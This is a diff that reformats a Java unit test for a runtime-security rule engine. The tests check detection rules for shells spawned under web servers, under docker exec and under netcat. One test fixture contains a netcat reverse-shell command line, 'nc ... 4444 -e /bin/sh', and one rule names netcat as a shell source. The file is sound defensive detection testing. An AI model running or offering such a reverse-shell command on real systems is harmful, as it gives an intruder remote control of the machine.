@@ -7,12 +7,13 @@ import java.util.Map;
 import org.junit.jupiter.api.Test;
 
 /**
- * Conditions over who started a process: {@code proc.parent} and {@code proc.ancestors}, which
- * the real-time source puts on exec events. A shell under a web server is not a shell under
- * {@code docker exec}.
+ * Conditions over who started a process: {@code proc.parent} and {@code proc.ancestors}, which the
+ * real-time source puts on exec events. A shell under a web server is not a shell under {@code
+ * docker exec}.
  */
 class ParentConditionsTest {
-    private static final String RULES = """
+  private static final String RULES =
+      """
             rules:
               - id: shell_under_web_server
                 description: A web server (or a shell it started) ran a shell.
@@ -40,39 +41,45 @@ class ParentConditionsTest {
               web_servers: [nginx, httpd, apache2, caddy, php-fpm]
             """;
 
-    private final RuleEngine engine = new RuleEngine(loaded().ruleSet());
+  private final RuleEngine engine = new RuleEngine(loaded().ruleSet());
 
-    private static LoadResult loaded() {
-        LoadResult result = Fixtures.load("parent.yaml", RULES);
-        assertEquals(List.of(), result.problems());
-        return result;
-    }
+  private static LoadResult loaded() {
+    LoadResult result = Fixtures.load("parent.yaml", RULES);
+    assertEquals(List.of(), result.problems());
+    return result;
+  }
 
-    @Test
-    void aShellWhoseParentIsTheWebServerFires() {
-        List<RuleMatch> matches = engine.evaluate(Fixtures.event("exec_shell_under_web_server"));
-        assertEquals(List.of("shell_under_web_server"), matches.stream().map(m -> m.rule().id()).toList());
-        Map<String, Object> evidence = matches.get(0).evidence();
-        assertEquals("nginx", evidence.get("parent"));
-        assertEquals("nginx: worker process", evidence.get("parent_cmdline"));
-        assertEquals(List.of("nginx", "nginx", "containerd-shim", "systemd"), evidence.get("chain"));
-    }
+  @Test
+  void aShellWhoseParentIsTheWebServerFires() {
+    List<RuleMatch> matches = engine.evaluate(Fixtures.event("exec_shell_under_web_server"));
+    assertEquals(
+        List.of("shell_under_web_server"), matches.stream().map(m -> m.rule().id()).toList());
+    Map<String, Object> evidence = matches.get(0).evidence();
+    assertEquals("nginx", evidence.get("parent"));
+    assertEquals("nginx: worker process", evidence.get("parent_cmdline"));
+    assertEquals(List.of("nginx", "nginx", "containerd-shim", "systemd"), evidence.get("chain"));
+  }
 
-    @Test
-    void aShellStartedByAShellOfTheWebServerFiresThroughTheAncestors() {
-        assertEquals(List.of("shell_under_web_server"),
-                Fixtures.firedIds(engine, Fixtures.event("exec_shell_under_shell_under_web_server")));
-    }
+  @Test
+  void aShellStartedByAShellOfTheWebServerFiresThroughTheAncestors() {
+    assertEquals(
+        List.of("shell_under_web_server"),
+        Fixtures.firedIds(engine, Fixtures.event("exec_shell_under_shell_under_web_server")));
+  }
 
-    @Test
-    void aShellFromDockerExecIsToldByItsParentsRuntimeNotByAWebServer() {
-        assertEquals(List.of("shell_from_docker_exec"),
-                Fixtures.firedIds(engine, Fixtures.event("exec_shell_from_docker_exec")));
-    }
+  @Test
+  void aShellFromDockerExecIsToldByItsParentsRuntimeNotByAWebServer() {
+    assertEquals(
+        List.of("shell_from_docker_exec"),
+        Fixtures.firedIds(engine, Fixtures.event("exec_shell_from_docker_exec")));
+  }
 
-    @Test
-    void aParentsAndAncestorsProgramIsSeenWhenCommIsExe() {
-        LoadResult loaded = Fixtures.load("program.yaml", """
+  @Test
+  void aParentsAndAncestorsProgramIsSeenWhenCommIsExe() {
+    LoadResult loaded =
+        Fixtures.load(
+            "program.yaml",
+            """
                 rules:
                   - id: shell_under_netcat
                     description: A shell whose parent or an ancestor is netcat, told by its program.
@@ -83,25 +90,51 @@ class ParentConditionsTest {
                     tags: [mitre.T1059.004]
                     output: "{proc.name} under netcat"
                 """);
-        assertEquals(List.of(), loaded.problems());
-        RuleEngine programs = new RuleEngine(loaded.ruleSet());
-        // Debian's static busybox runs nc through /proc/self/exe: its comm is "exe"
-        Map<String, Object> nc = Map.of("pid", 4300L, "name", "exe", "exe", "/bin/busybox", "program", "nc",
-                "cmdline", "nc 172.17.0.5 4444 -e /bin/sh");
-        Map<String, Object> underNc = Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4301L,
-                "name", "sh", "exe", "/bin/busybox", "parent", nc, "ancestors", List.of(nc)));
-        assertEquals(List.of("shell_under_netcat"), Fixtures.firedIds(programs, underNc));
-        // Without parent facts (the /proc scan): the parent's program is "", nothing fails
-        Map<String, Object> bare = Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4302L,
-                "name", "sh"));
-        assertEquals(List.of(), Fixtures.firedIds(programs, bare));
-        assertEquals(0, programs.stats().values().stream().mapToLong(RuleStats::errors).sum());
-    }
+    assertEquals(List.of(), loaded.problems());
+    RuleEngine programs = new RuleEngine(loaded.ruleSet());
+    // Debian's static busybox runs nc through /proc/self/exe: its comm is "exe"
+    Map<String, Object> nc =
+        Map.of(
+            "pid",
+            4300L,
+            "name",
+            "exe",
+            "exe",
+            "/bin/busybox",
+            "program",
+            "nc",
+            "cmdline",
+            "nc 172.17.0.5 4444 -e /bin/sh");
+    Map<String, Object> underNc =
+        Map.of(
+            "kind",
+            "event",
+            "type",
+            "exec",
+            "process",
+            Map.of(
+                "pid",
+                4301L,
+                "name",
+                "sh",
+                "exe",
+                "/bin/busybox",
+                "parent",
+                nc,
+                "ancestors",
+                List.of(nc)));
+    assertEquals(List.of("shell_under_netcat"), Fixtures.firedIds(programs, underNc));
+    // Without parent facts (the /proc scan): the parent's program is "", nothing fails
+    Map<String, Object> bare =
+        Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4302L, "name", "sh"));
+    assertEquals(List.of(), Fixtures.firedIds(programs, bare));
+    assertEquals(0, programs.stats().values().stream().mapToLong(RuleStats::errors).sum());
+  }
 
-    @Test
-    void anExecWithoutParentFactsMatchesNeitherAndFailsNothing() {
-        // Seen by the /proc scan, or recorded before parents were recorded: the defaults hold.
-        assertEquals(List.of(), Fixtures.firedIds(engine, Fixtures.event("exec_shell_in_container")));
-        assertEquals(0, engine.stats().values().stream().mapToLong(RuleStats::errors).sum());
-    }
+  @Test
+  void anExecWithoutParentFactsMatchesNeitherAndFailsNothing() {
+    // Seen by the /proc scan, or recorded before parents were recorded: the defaults hold.
+    assertEquals(List.of(), Fixtures.firedIds(engine, Fixtures.event("exec_shell_in_container")));
+    assertEquals(0, engine.stats().values().stream().mapToLong(RuleStats::errors).sum());
+  }
 }
